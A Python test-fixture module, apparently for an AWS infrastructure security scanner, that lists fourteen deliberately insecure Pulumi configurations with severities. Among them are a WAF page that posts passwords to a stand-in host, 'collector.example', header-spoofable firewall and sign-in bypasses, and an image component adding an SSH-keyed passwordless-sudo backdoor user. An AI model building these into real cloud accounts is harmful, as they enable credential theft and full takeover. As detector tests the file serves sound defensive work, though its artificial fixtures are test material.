"""Attacks on AWS: doors, sign-in, rights and code (2026-11-30, seventeenth set, written blind).

Properties by pulumi-aws 7.51.1. Read on 2026-11-30: AWS WAF ("Oversize handling for request components"; position of
IPSetForwardedIPConfig in the SDK), the runbook AWS-AttachIAMToInstance (ForceReplace is true by default). Everything
else as known.
"""

import json
from dataclasses import replace

from ..blind import IMAGE, KEY, ME, TAGS, aws, policy, statement
from ..harness import UNKNOWN
from ..idioms.aws_platform import LAUNCH, bucket
from ..idioms.fourth import FUNCTION
from . import Attack
from .fifteenth_aws_services import KEPT
from .tenth_aws import ESC, RES, R

EXP = ("FJ-EXP-", "FJ-IDN-", "FJ-ESC-")
IDN = ("FJ-IDN-", "FJ-ESC-", "FJ-EXP-")
STRANGER = "collector.example"
SUBNETS, GROUPS = ["subnet-1", "subnet-2"], ["sg-1"]
LISTENER = f"arn:aws:elasticloadbalancing:{R}:{ME}:listener/app/portal/50dc6c495c0c9188/f2f7dc8efc522ab2"
TARGETS = f"arn:aws:elasticloadbalancing:{R}:{ME}:targetgroup/portal/73e2d6bc24d8a067"
OFFICE = f"arn:aws:wafv2:{R}:{ME}:regional/ipset/office/a1b2c3d4-5678-90ab-cdef-111122223333"


def _seen(name: str) -> dict[str, object]:
    return {"cloudwatchMetricsEnabled": True, "metricName": name, "sampledRequestsEnabled": True}


def _firewall(default: str, rule: dict[str, object], **more: object) -> dict[str, object]:
    return {"name": "portal", "scope": "REGIONAL", "defaultAction": {default: {}}, "tags": TAGS,
            "visibilityConfig": _seen("portal"), **more,
            "rules": [{"name": "first", "priority": 1, "visibilityConfig": _seen("first"), **rule}]}  # fmt: skip


def _ours(service: str, rest: str) -> str:
    return f"arn:aws:{service}:{R}:{ME}:{rest}"


FORM = (f"<h1>Please sign in again</h1><form method='post' action='https://login.{STRANGER}/in'>"
        "<input name='user'><input name='password' type='password'></form>")  # fmt: skip
LAUNCHED = {**LAUNCH.props, "imageId": "resolve:ssm:/images/base"}
SPARK = json.dumps({
    "EncryptionConfiguration": {
        "EnableInTransitEncryption": True, "EnableAtRestEncryption": True,
        "InTransitEncryptionConfiguration": {"TLSCertificateConfiguration": {
            "CertificateProviderType": "Custom", "CertificateProviderClass": "ae.bank.emr.Certificates",
            "S3Object": "s3://bank-certificates/emr/certificates.jar"}},
        "AtRestEncryptionConfiguration": {
            "S3EncryptionConfiguration": {"EncryptionMode": "SSE-KMS", "AwsKmsKey": KEY},
            "LocalDiskEncryptionConfiguration": {"EncryptionKeyProviderType": "AwsKms", "AwsKmsKey": KEY,
                                                 "EnableEbsEncryption": True}}},
    "InstanceMetadataServiceConfiguration": {"MinimumInstanceMetadataServiceVersion": 1,
                                             "HttpPutResponseHopLimit": 64}})  # fmt: skip
STORE = tuple(  # a bucket of the stack, by a name that the settings list as kept elsewhere in the country
    replace(part, name=KEPT if part.name == "bucket" else part.name, links=dict.fromkeys(part.links, (KEPT,)))
    for part in bucket("bank-certificates"))  # fmt: skip
PHASES = json.dumps({"schemaVersion": "1.0", "phases": [{"name": "build", "steps": [{
    "name": "support", "action": "ExecuteBash", "inputs": {"commands": [
        "useradd -m support", "install -d -m 700 -o support /home/support/.ssh",
        "echo 'ssh-ed25519 AAAAC3NzaC1lZDI1NTE5AAAAIJ0uK8dQb1wV5pXc7m2Yh4rN9sTfLgE3aZkPqR6vB1oM s' "
        ">> /home/support/.ssh/authorized_keys",
        "echo 'support ALL=(ALL) NOPASSWD: ALL' > /etc/sudoers.d/support"]}}]}]})  # fmt: skip

ATTACKS = (
    Attack("the web firewall lets in whoever writes an address of the office into a header", EXP, (
        aws("wafv2/WebAcl", _firewall("block", {"action": {"allow": {}}, "statement": {"ipSetReferenceStatement": {
            "arn": OFFICE, "ipSetForwardedIpConfig": {
                "headerName": "X-Forwarded-For", "position": "FIRST", "fallbackBehavior": "NO_MATCH"}}}})),),
        "critical", "the first address of the header is what the client wrote (AWS WAF, IPSetForwardedIPConfig)"),
    Attack("the web firewall does not look into bodies that are long", EXP, (
        aws("wafv2/WebAcl", _firewall("allow", {"action": {"block": {}}, "statement": {"sqliMatchStatement": {
            "fieldToMatch": {"body": {"oversizeHandling": "NO_MATCH"}}, "sensitivityLevel": "HIGH",
            "textTransformations": [{"priority": 0, "type": "URL_DECODE"}]}}})),),
        "major", "an injection with eight kilobytes of filling passes whole (AWS WAF, 'Oversize handling')"),
    Attack("requests are limited by an address that the caller writes", EXP, (
        aws("wafv2/WebAcl", _firewall("allow", {"action": {"block": {}}, "statement": {"rateBasedStatement": {
            "limit": 500, "aggregateKeyType": "FORWARDED_IP", "evaluationWindowSec": 300, "forwardedIpConfig": {
                "headerName": "X-Client-Address", "fallbackBehavior": "NO_MATCH"}}}})),),
        "major", "without the header nobody is counted, and passwords can be tried (AWS WAF, ForwardedIPConfig)"),
    Attack("the page of the web firewall asks for a password and sends it to a stranger", RES, (
        aws("wafv2/WebAcl", _firewall("allow", {
            "action": {"block": {"customResponse": {"responseCode": 200, "customResponseBodyKey": "again"}}},
            "statement": {"geoMatchStatement": {"countryCodes": ["AE"]}}},
            customResponseBodies=[{"key": "again", "contentType": "TEXT_HTML", "content": FORM}])),),
        "critical", "customers of the country type it on the bank's own host (AWS WAF, CustomResponseBody)"),
    Attack("a rule of the balancer leads past the sign-in whoever sends a header", IDN, (
        aws("lb/ListenerRule", {
            "listenerArn": LISTENER, "priority": 10, "tags": TAGS, "conditions": [{"pathPattern": {"values": ["/*"]}}],
            "actions": [{"type": "authenticate-cognito", "order": 1, "authenticateCognito": {
                "userPoolArn": _ours("cognito-idp", "userpool/me-central-1_AbCdEfGhI"), "userPoolClientId": UNKNOWN,
                "userPoolDomain": "bank-portal", "onUnauthenticatedRequest": "authenticate"}},
                {"type": "forward", "order": 2, "targetGroupArn": TARGETS}]}, "signed-in"),
        aws("lb/ListenerRule", {
            "listenerArn": LISTENER, "priority": 1, "tags": TAGS, "conditions": [{"httpHeader": {
                "httpHeaderName": "X-Health", "values": ["*"]}}],
            "actions": [{"type": "forward", "targetGroupArn": TARGETS}]}, "health")),
        "critical", "the same targets answer without a token (Elastic Load Balancing, 'Listener rules', priority)"),
    Attack("a function starts by a program of a folder that every team writes", ESC, (aws("lambda/Function", {
        **FUNCTION, "name": "settle", "vpcConfig": {"subnetIds": SUBNETS, "securityGroupIds": GROUPS},
        "fileSystemConfig": {"arn": _ours("elasticfilesystem", "access-point/fsap-0123456789abcdef0"),
                             "localMountPath": "/mnt/shared"},
        "environment": {"variables": {"AWS_LAMBDA_EXEC_WRAPPER": "/mnt/shared/start"}}}),),
        "major", "who writes there runs with the role of the function (AWS Lambda, 'Wrapper scripts')"),
    Attack("callers of an API send commands to every machine", IDN, (aws("apigateway/Integration", {
        "restApi": UNKNOWN, "resourceId": UNKNOWN, "httpMethod": "POST", "integrationHttpMethod": "POST", "type": "AWS",
        "uri": f"arn:aws:apigateway:{R}:ssm:path//", "credentials": f"arn:aws:iam::{ME}:role/api",
        "passthroughBehavior": "WHEN_NO_MATCH", "timeoutMilliseconds": 29000, "requestParameters": {
            "integration.request.header.X-Amz-Target": "'AmazonSSM.SendCommand'",
            "integration.request.header.Content-Type": "'application/x-amz-json-1.1'"}}),),
        "critical", "the body that they post names machines and commands (API Gateway, 'AWS integration')"),
    Attack("machines without a profile get the role of deployments by a remediation", IDN, (
        aws("cfg/RemediationConfiguration", {
            "configRuleName": "ec2-instance-profile-attached", "targetType": "SSM_DOCUMENT", "automatic": True,
            "targetId": "AWS-AttachIAMToInstance", "resourceType": "AWS::EC2::Instance", "maximumAutomaticAttempts": 3,
            "retryAttemptSeconds": 60, "parameters": [
                {"name": "InstanceId", "resourceValue": "RESOURCE_ID"},
                {"name": "RoleName", "staticValue": "deployer"},
                {"name": "AutomationAssumeRole", "staticValue": f"arn:aws:iam::{ME}:role/remediation"}]}),),
        "critical", "whoever is on a machine deploys (AWS Systems Manager, runbook AWS-AttachIAMToInstance)"),
    Attack("machines of Spark give their role to each request", EXP, (
        *STORE, aws("emr/SecurityConfiguration", {"name": "lake", "configuration": SPARK})),
        "major", "metadata without a session and over 64 hops (Amazon EMR, InstanceMetadataServiceConfiguration)"),
    Attack("the managed Argo CD of a cluster is reached from the internet", EXP, (aws("eks/Capability", {
        "clusterName": "platform", "capabilityName": "deploy", "type": "ARGOCD", "deletePropagationPolicy": "RETAIN",
        "roleArn": f"arn:aws:iam::{ME}:role/argocd", "tags": TAGS, "configuration": {"argoCd": {
            "awsIdc": {"idcInstanceArn": "arn:aws:sso:::instance/ssoins-1234567890abcdef", "idcRegion": R},
            "rbacRoleMappings": [{"role": "ADMIN", "identities": [{
                "id": "93ac0c1e-7021-70e1-6c5f-1d2f7c3b9a10", "type": "SSO_GROUP"}]}]}}}),),
        "major", "without endpoints of the network its server is public (Amazon EKS, Argo CD capability)"),
    Attack("a service of containers is published by not saying where it runs", EXP, (aws("ecs/ExpressGatewayService", {
        "serviceName": "portal", "executionRoleArn": f"arn:aws:iam::{ME}:role/start", "tags": TAGS,
        "infrastructureRoleArn": f"arn:aws:iam::{ME}:role/express", "taskRoleArn": f"arn:aws:iam::{ME}:role/portal",
        "cpu": "512", "memory": "1024", "healthCheckPath": "/healthz", "primaryContainer": {
            "image": IMAGE, "containerPort": 8080, "awsLogsConfigurations": [{
                "logGroup": "/ecs/portal", "logStreamPrefix": "portal"}]}}),),
        "critical", "it gets a balancer with a public address in the default network (Amazon ECS, 'Express Mode')"),
    Attack("a role replaces the servers behind every balancer", IDN, (policy(
        statement(["elasticloadbalancing:RegisterTargets", "elasticloadbalancing:DeregisterTargets"])),),
        "critical", "callers of any service reach its own machine (Elastic Load Balancing, 'Register targets')"),
    Attack("a role says of which image machines are launched", IDN, (
        aws("ec2/LaunchTemplate", LAUNCHED, "machines"),
        policy(statement("ssm:PutParameter", _ours("ssm", "parameter/*")))),
        "critical", "the next machines run its image with their roles (Amazon EC2, 'Use a Systems Manager parameter "
        "instead of an AMI ID')"),
    Attack("each image has a user of somebody who may do everything", ESC, (aws("imagebuilder/Component", {
        "name": "support", "platform": "Linux", "version": "1.0.0", "kmsKeyId": KEY, "data": PHASES, "tags": TAGS}),),
        "critical", "the holder of the key is root on every machine (sudoers, NOPASSWD)"),
)  # fmt: skip
